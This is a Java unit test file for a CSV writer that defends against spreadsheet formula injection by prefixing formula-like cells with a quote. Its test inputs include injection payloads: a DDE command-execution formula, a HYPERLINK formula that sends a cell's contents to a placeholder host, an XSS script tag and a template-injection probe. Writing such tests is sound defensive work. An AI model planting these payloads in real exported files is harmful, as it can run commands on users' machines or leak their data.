package org.parley.platform;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.parley.support.CsvReader;

class CsvWriterTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
        "=cmd|' /C calc'!A0",
        "-",
        "="
      })
  void neutralisesEveryFormulaPrefixWithASingleQuote(String value) {
    String cell = CsvWriter.cell(value);
    assertEquals("\"'" + value.replace("\"", "\"\"") + "\"", cell);
    assertEquals("'" + value, parseOne(cell));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Liaison office",
        " =1+1",
        "'=1+1",
        "\"=1+1\"",
        "1=1",
        "a-b",
        "x@example.invalid",
        "\n=1+1",
        "＝1+1",
        "#{7*191}",
        "<script>alert(1)</script>",
        "한반도 비핵화"
      })
  void leavesCellsThatDoNotStartLikeAFormula(String value) {
    assertEquals(value, parseOne(CsvWriter.cell(value)));
  }

  @Test
  void quotesEveryCellAndDoublesQuotes() {
    assertEquals("\"plain\"", CsvWriter.cell("plain"));
    assertEquals("\"a,b\"", CsvWriter.cell("a,b"));
    assertEquals("\"say \"\"no\"\"\"", CsvWriter.cell("say \"no\""));
    assertEquals("\"\"\"\"", CsvWriter.cell("\""));
    assertEquals("\"''\"", CsvWriter.cell("''"));
  }

  @Test
  void keepsLineBreaksInsideTheirCell() {
    String value = "first line\r\nsecond line\nthird";
    assertEquals("\"first line\r\nsecond line\nthird\"", CsvWriter.cell(value));
    assertEquals(value, parseOne(CsvWriter.cell(value)));
  }

  @Test
  void writesEmptyAndNullCellsAsEmptyQuotedCells() {
    assertEquals("\"\"", CsvWriter.cell(""));
    assertEquals("\"\"", CsvWriter.cell(null));
    assertEquals(
        CsvWriter.BOM + "\"\",\"\"\r\n", new CsvWriter().row(Arrays.asList(null, "")).toString());
  }

  @Test
  void writesRecordsWithCrLfAfterAByteOrderMark() {
    String csv =
        new CsvWriter()
            .row(List.of("Reference", "Title"))
            .row(List.of("DPRK-2026-0001", "=1+1, \"quoted\"\nnext"))
            .toString();
    assertEquals(
        "\uFEFF\"Reference\",\"Title\"\r\n"
            + "\"DPRK-2026-0001\",\"'=1+1, \"\"quoted\"\"\nnext\"\r\n",
        csv);
    assertEquals(
        List.of(
            List.of("Reference", "Title"), List.of("DPRK-2026-0001", "'=1+1, \"quoted\"\nnext")),
        parse(csv.substring(1)));
  }

  @Test
  void bytesAreUtf8WithTheByteOrderMark() {
    byte[] bytes = new CsvWriter().row(List.of("— ü 한")).bytes();
    assertArrayEquals((CsvWriter.BOM + "\"— ü 한\"\r\n").getBytes(StandardCharsets.UTF_8), bytes);
    assertEquals((byte) 0xEF, bytes[0]);
    assertEquals((byte) 0xBB, bytes[1]);
    assertEquals((byte) 0xBF, bytes[2]);
  }

  @Test
  void anEmptyFileHoldsOnlyTheByteOrderMark() {
    assertEquals(CsvWriter.BOM, new CsvWriter().toString());
    assertFalse(CsvWriter.startsLikeAFormula(""));
    assertTrue(CsvWriter.startsLikeAFormula("@"));
  }

  private static String parseOne(String cell) {
    List<List<String>> rows = CsvReader.parse(cell + "\r\n");
    assertEquals(1, rows.size());
    assertEquals(1, rows.get(0).size());
    return rows.get(0).get(0);
  }

  private static List<List<String>> parse(String csv) {
    return CsvReader.parse(csv);
  }
}
